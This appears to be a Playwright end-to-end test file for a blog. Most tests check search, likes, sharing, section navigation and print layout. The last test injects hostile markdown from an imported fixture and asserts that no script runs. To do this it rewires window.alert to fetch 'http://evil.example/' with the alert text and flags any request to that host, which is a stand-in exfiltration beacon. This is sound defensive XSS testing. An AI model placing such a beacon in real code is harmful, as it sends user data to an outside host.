import { expect, test } from '../../fixtures';
import { navigateWithRouter } from '../../releasing';
import { hostileMarkdown } from '../../../shared-ui/src/markdown/hostileMarkdown.fixture';

test('A visitor finds a post by category and words, reads it, reacts and shares it @quick', async ({
  page,
  context,
  system,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/blog');
  await expect(page.getByRole('region', { name: 'Featured Articles' }).getByRole('article')).toHaveCount(2);
  await page.getByRole('button', { name: 'Money' }).click();
  await expect(page).toHaveURL(/\?category=Money$/);
  await page.getByRole('searchbox').fill('LEDGER');
  await expect(page.getByRole('article')).toHaveCount(1);
  await page.getByRole('link', { name: 'A ledger in plain text' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'A ledger in plain text' })).toBeVisible();
  await expect(page).toHaveTitle('A ledger in plain text | Mira Solberg');

  const like = page.getByRole('button', { name: /^Like \d/ });
  const before = Number(/\d+/.exec((await like.textContent()) ?? '')?.[0]);
  await like.click();
  await expect(page.getByRole('button', { name: `Like ${before + 1}`, pressed: true })).toBeFocused();
  await page.reload();
  await expect(page.getByRole('button', { name: `Like ${before + 1}`, pressed: true })).toBeVisible();
  await page.keyboard.press('Tab');
  await like.focus();
  await page.keyboard.press('Space');
  await expect(page.getByRole('button', { name: `Like ${before}`, pressed: false })).toBeVisible();

  await page.getByRole('button', { name: 'Share' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Link copied!' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    `${system.url}/blog/a-ledger-in-plain-text`,
  );
  await expect(page.getByRole('region', { name: 'Related Articles' }).getByRole('article')).toHaveCount(2);
});

test('A reader goes from section to section, and sees the progress', async ({ page }) => {
  await page.goto('/blog/a-ledger-in-plain-text');
  const contents = page.getByRole('navigation', { name: 'On this page' });
  const section = contents.getByRole('link', { name: 'Why not a spreadsheet' });
  await section.click();
  await expect(page).toHaveURL(/#c-why-not-a-spreadsheet$/);
  const heading = page.getByRole('heading', { name: 'Why not a spreadsheet' });
  await expect(heading).toBeInViewport();
  await expect(heading).toBeFocused();
  await expect(section).toHaveAttribute('aria-current', 'true');
  const shareOfLine = () =>
    page
      .locator('[data-reading-progress]')
      .evaluate((line) => line.getBoundingClientRect().width / window.innerWidth);
  await expect.poll(shareOfLine, 'in the middle').toBeGreaterThan(0.2);
  await page.evaluate(() => window.scrollTo(0, 0));
  await expect.poll(shareOfLine, 'at the top').toBeLessThan(0.2);

  await page.goto('/blog/a-ledger-in-plain-text#c-what-it-cannot-do');
  await expect(page.getByRole('heading', { name: 'What it cannot do' })).toBeInViewport();
});

test('A phone shows an article without its table of contents, and paper shows the text alone', async ({
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto('/blog/a-ledger-in-plain-text');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.getByRole('navigation', { name: 'On this page' })).toBeHidden();

  await page.emulateMedia({ media: 'print' });
  await page.setViewportSize({ width: 1440, height: 900 });
  await expect(page.getByRole('heading', { level: 2, name: 'The format' })).toBeVisible();
  for (const chrome of [
    page.getByRole('banner'),
    page.getByRole('contentinfo'),
    page.getByRole('link', { name: 'Back to Blog' }),
    page.getByRole('button', { name: 'Share' }),
    page.getByRole('button', { name: /^Like/ }),
    page.getByRole('navigation', { name: 'On this page' }),
    page.locator('[data-reading-progress]'),
  ])
    await expect(chrome).toBeHidden();
});

test('Hostile content runs no script and leaves the page intact @quick', async ({ page }) => {
  expect(hostileMarkdown.length).toBeGreaterThanOrEqual(40);
  let body = '';
  // Lists have whole posts, too, and replace what the page has read.
  await page.route('**/rest/v1/blog_posts?*', async (route) => {
    const response = await route.fetch();
    const found = (await response.json()) as object | object[];
    const spoil = (post: object) => ('content' in post ? { ...post, content: body } : post);
    await route.fulfill({ response, json: Array.isArray(found) ? found.map(spoil) : spoil(found) });
  });
  const alarms: string[] = [];
  page.on('dialog', (dialog) => {
    alarms.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (/evil\.example|^data:text/.test(request.url())) alarms.push(request.url());
  });
  await page.addInitScript(() => {
    window.alert = (text) => void fetch(`http://evil.example/${text}`);
  });
  await page.setViewportSize({ width: 390, height: 844 });

  // Tests all snippets in one text, each in its own section, and again, in separate texts, those most likely to swallow the rest.
  const sections = hostileMarkdown.map((text, index) => `## Number ${index}\n\n${text}`);
  const alone = sections.filter((_, index) =>
    /^<(!|\?|noscript|template|textarea|style|meta|base)/.test(hostileMarkdown[index] ?? ''),
  );
  for (body of [sections.join('\n\n'), ...alone]) {
    // Reaches the post through the router, because a page that the server renders does not request it.
    await page.goto('/store');
    await navigateWithRouter(page, '/blog/a-week-that-holds');
    await expect(page.getByRole('heading', { level: 1, name: 'A week that holds' })).toBeVisible();
    await expect(page.getByRole('heading', { level: 2, name: /^Number \d+/ }).first()).toBeVisible();
    await page.waitForLoadState('networkidle');
    const outward = await page
      .locator('article a:not([href^="#"]):not([href^="/"])')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    for (const address of outward) expect(address).toMatch(/^(https?|mailto|tel):/);
    const layout = () =>
      page.evaluate(() => ({
        sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
        hasFooter: document.querySelector('footer') !== null,
      }));
    await expect.poll(layout, body.slice(0, 80)).toEqual({ sideways: 0, hasFooter: true });
    await expect(page.getByRole('button', { name: /^Like/ })).toBeVisible();
  }
  expect(alarms).toEqual([]);
});
